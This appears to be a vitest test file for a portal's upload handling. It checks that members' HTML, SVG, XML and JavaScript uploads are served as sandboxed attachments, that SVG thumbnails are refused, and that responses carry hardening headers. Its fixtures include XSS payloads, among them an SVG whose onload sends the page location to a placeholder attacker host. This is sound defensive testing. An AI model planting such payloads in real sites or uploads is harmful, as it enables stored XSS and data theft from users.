import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeFile } from "../../src/content/file-store.js";
import { startTestPortal, type TestPortal } from "../helpers/portico.js";

/** A 1x1 transparent PNG. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`//evil.example/?`+location)"><rect/></svg>',
);

/**
 * Uploaded content must never be served as a page of the portal (stored XSS): a member's HTML,
 * SVG, XML or JavaScript is an attachment no browser runs, every file answer is sandboxed and
 * unsniffable, thumbnails are only ever PNG, GIF or JPEG, and every answer carries the hardening
 * headers.
 */
describe("file answers and hardening headers", () => {
  let portal: TestPortal;
  let member: { username: string; token: string };
  let admin: string;

  beforeAll(async () => {
    portal = await startTestPortal();
    member = await portal.addUser("mallory_member");
    admin = portal.adminToken;
  });
  afterAll(async () => {
    await portal.stop();
  });

  /** Adds an item with an uploaded file and shares it with the organization, as the member. */
  async function shared(file: Buffer, name: string, type: string, thumbnail?: [Buffer, string, string]) {
    const body = new FormData();
    for (const [k, v] of Object.entries({ f: "json", token: member.token, title: name, type: "Code Sample" }))
      body.append(k, v);
    body.append("file", new Blob([file], { type }), name);
    if (thumbnail) body.append("thumbnail", new Blob([thumbnail[0]], { type: thumbnail[2] }), thumbnail[1]);
    const added = (await (
      await fetch(`${portal.api}/content/users/${member.username}/addItem`, { method: "POST", body })
    ).json()) as any;
    if (!added.success) return added;
    await portal.post(
      `/content/users/${member.username}/items/${added.id}/share`,
      { org: true },
      member.token,
    );
    return added;
  }

  /** What an administrator's browser gets when it opens the item's data. */
  const download = (id: string) => fetch(`${portal.api}/content/items/${id}/data?token=${admin}`);

  const expectFileHeaders = (res: Response) => {
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-security-policy")).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(res.headers.get("content-security-policy")).toContain("default-src 'none'");
    expect(res.headers.get("referrer-policy")).toBe("no-referrer");
  };

  it.each([
    ["x.html", "text/html", "<script>alert(document.domain)</script>"],
    ["x.htm", "text/html; charset=utf-8", "<img src=x onerror=alert(1)>"],
    ["x.svg", "image/svg+xml", SVG.toString()],
    [
      "x.xml",
      "application/xml",
      '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    ],
    [
      "x.xhtml",
      "application/xhtml+xml",
      '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    ],
    ["x.js", "text/javascript", "alert(1)"],
    ["x.css", "text/css", "body{background:url(//evil.example)}"],
  ])("serves a member's %s (%s) as an octet-stream attachment, sandboxed", async (name, type, text) => {
    const added = await shared(Buffer.from(text), name, type);
    expect(added.success).toBe(true);
    const res = await download(added.id);
    expect(res.headers.get("content-type")).toBe("application/octet-stream");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${name}"`);
    expectFileHeaders(res);
    expect(await res.text()).toBe(text);
  });

  it("serves a PDF, a CSV and a zip as attachments of their own type", async () => {
    for (const [name, type] of [
      ["doc.pdf", "application/pdf"],
      ["table.csv", "text/csv"],
      ["data.zip", "application/zip"],
    ] as const) {
      const res = await download((await shared(Buffer.from("%PDF-1.7 or not"), name, type)).id);
      expect(res.headers.get("content-type")).toBe(type);
      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${name}"`);
      expectFileHeaders(res);
    }
  });

  it("shows safe types inline, still sandboxed: images, plain text, JSON", async () => {
    const png = await download((await shared(PNG, "map.png", "image/png")).id);
    expect(png.headers.get("content-type")).toBe("image/png");
    expect(png.headers.get("content-disposition")).toBe('inline; filename="map.png"');
    expectFileHeaders(png);
    expect(Buffer.from(await png.arrayBuffer()).equals(PNG)).toBe(true);

    const text = await download((await shared(Buffer.from("<b>hi</b>"), "notes.txt", "text/plain")).id);
    expect(text.headers.get("content-type")).toBe("text/plain");
    expect(text.headers.get("content-disposition")).toBe('inline; filename="notes.txt"');
    expectFileHeaders(text);

    const web = await portal.post(
      `/content/users/${member.username}/addItem`,
      { title: "Map", type: "Web Map", text: '{"operationalLayers":[]}' },
      member.token,
    );
    const json = await fetch(`${portal.api}/content/items/${web.id}/data?token=${member.token}`);
    expect(json.headers.get("content-type")).toMatch(/^application\/json/);
    expect(json.headers.get("content-disposition")).toBe('inline; filename="data.json"');
    expectFileHeaders(json);
    expect(await json.json()).toEqual({ operationalLayers: [] });
  });

  it("refuses an SVG thumbnail, naming the thumbnail parameter, and stores nothing", async () => {
    const before = await portal.portico.db.kysely
      .selectFrom("items")
      .select((eb) => eb.fn.countAll().as("n"))
      .executeTakeFirstOrThrow();
    const refused = await shared(PNG, "ok.png", "image/png", [SVG, "thumb.svg", "image/svg+xml"]);
    expect(refused.error).toMatchObject({ code: 400, messageCode: "PARAM_0002" });
    expect(refused.error.details).toEqual(["'thumbnail' must be a PNG, GIF or JPEG image."]);
    // Claiming to be a PNG changes nothing: the first bytes decide.
    const disguised = await shared(PNG, "ok.png", "image/png", [SVG, "thumb.png", "image/png"]);
    expect(disguised.error.details).toEqual(["'thumbnail' must be a PNG, GIF or JPEG image."]);
    const after = await portal.portico.db.kysely
      .selectFrom("items")
      .select((eb) => eb.fn.countAll().as("n"))
      .executeTakeFirstOrThrow();
    expect(Number(after.n)).toBe(Number(before.n));
  });

  it("serves a stored thumbnail only as the image its bytes are, whatever type it was stored with", async () => {
    const added = await shared(PNG, "ok.png", "image/png", [PNG, "thumb.png", "image/png"]);
    const thumbnail = (name: string) =>
      fetch(`${portal.api}/content/items/${added.id}/info/thumbnail/${name}?token=${admin}`);
    const good = await thumbnail("thumb.png");
    expect(good.headers.get("content-type")).toBe("image/png");
    expectFileHeaders(good);

    // What a collaboration copy from a hostile peer could hold: stored straight through the file
    // store, as replication does, without the checks of the public API.
    const db = portal.portico.db;
    await db.transaction((trx) =>
      writeFile(trx, added.id, "thumbnail", { name: "x.png", contentType: "image/png" }, { data: SVG }),
    );
    const svg = await thumbnail("x.png");
    expect(svg.headers.get("content-type")).toMatch(/^application\/json/);
    expect(((await svg.json()) as any).error).toMatchObject({ code: 400 });

    await db.transaction((trx) =>
      writeFile(trx, added.id, "thumbnail", { name: "y.svg", contentType: "image/svg+xml" }, { data: PNG }),
    );
    const relabelled = await thumbnail("y.svg");
    expect(relabelled.headers.get("content-type")).toBe("image/png");
    expectFileHeaders(relabelled);
  });

  const expectHardened = (res: Response) => {
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("referrer-policy")).toBe("no-referrer");
  };

  /** An `f=html` page may show nothing but itself: no script, no framing, only its own style. */
  async function expectHardenedPage(res: Response) {
    expectHardened(res);
    expect(res.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(res.headers.get("x-frame-options")).toBe("DENY");
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("frame-ancestors 'none'");
    // The page keeps working: its inline style is the one the policy allows, by hash.
    const page = await res.text();
    const style = /<style>(.*)<\/style>/s.exec(page)?.[1] ?? "";
    expect(style).not.toBe("");
    expect(csp).toContain(`style-src 'sha256-${createHash("sha256").update(style).digest("base64")}'`);
    return page;
  }

  it("hardens JSON answers, html pages and error answers of every kind", async () => {
    expectHardened(await fetch(`${portal.api}/info?f=json`));
    expect((await fetch(`${portal.api}/info?f=json`)).headers.get("x-frame-options")).toBe(null);
    const page = await expectHardenedPage(await fetch(`${portal.api}/portals/self?f=html&token=${admin}`));
    // The directory's page of the resource: its fields, readably.
    expect(page).toContain("<dt>portalName</dt>");

    const missing = await fetch(`${portal.api}/content/items/0123456789abcdef0123456789abcdef?f=json`);
    expectHardened(missing);
    expect(((await missing.json()) as any).error).toBeDefined();
    const htmlError = await fetch(`${portal.api}/content/items/nope?f=html&token=${admin}`);
    expect(await expectHardenedPage(htmlError)).toContain("Item does not exist or is inaccessible.");
    const unknownRoute = await fetch(`${portal.api}/no/such/route`);
    expectHardened(unknownRoute);
    expect(((await unknownRoute.json()) as any).error.messageCode).toBe("GEN_0404");
    const badPath = await fetch(`${portal.api}/content/items/%E0%A4%A`);
    expectHardened(badPath);
    expectHardened(await fetch(`${portal.api.replace("/sharing/rest", "")}/health`));
    expectHardened(await fetch(`${portal.api}/info`, { method: "OPTIONS" }));
  });
});
